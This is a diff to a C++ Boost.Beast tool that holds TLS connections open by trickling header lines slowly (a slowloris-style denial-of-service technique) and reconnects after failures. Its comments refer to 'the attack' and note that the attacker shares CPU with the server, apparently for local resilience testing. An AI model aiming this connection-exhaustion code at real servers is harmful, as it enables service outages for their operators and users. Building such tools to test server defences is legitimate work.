@@ -594,10 +594,9 @@ static awaitable<bool> trickle_header(std::shared_ptr<TlsConn> conn, std::string
     co_await net::async_write(conn->stream, net::buffer(prefix), with_ec(ec));
     static const std::string kLine = "X-a: b\r\n";
     while (!ec && !conn->closed && Clock::now() < end) {
-        Clock::time_point next = std::min(end, deadline_after(o.interval_ms));
-        // Wake early when the server closes: short naps until the next line is due.
-        while (!conn->closed && Clock::now() < next)
-            co_await sleep_until(std::min(next, deadline_after(50)));
+        // The watcher notes the moment the server closes; the writer only needs to stop by the
+        // next line (waking more often would spend the attacker's CPU, which the server shares).
+        co_await sleep_until(std::min(end, deadline_after(o.interval_ms)));
         if (conn->closed || Clock::now() >= end)
             break;
         co_await net::async_write(conn->stream, net::buffer(kLine), with_ec(ec));
@@ -739,7 +738,9 @@ static awaitable<void> big_request(const Options& o, ssl::context& ctx, Clock::t
     Clock::time_point start = Clock::now();
     beast::error_code ec = co_await open_tls(*conn, o.source, target_port(o));
     if (ec) {
-        s.statuses[failure_kind(ec)]++;
+        if (ec != beast::error::timeout)   // a timeout here is the end of the attack
+            s.statuses["connect_" + failure_kind(ec)]++;
+        co_await sleep_until(std::min(end, deadline_after(o.reconnect_ms)));
         co_return;
     }
     s.started++;
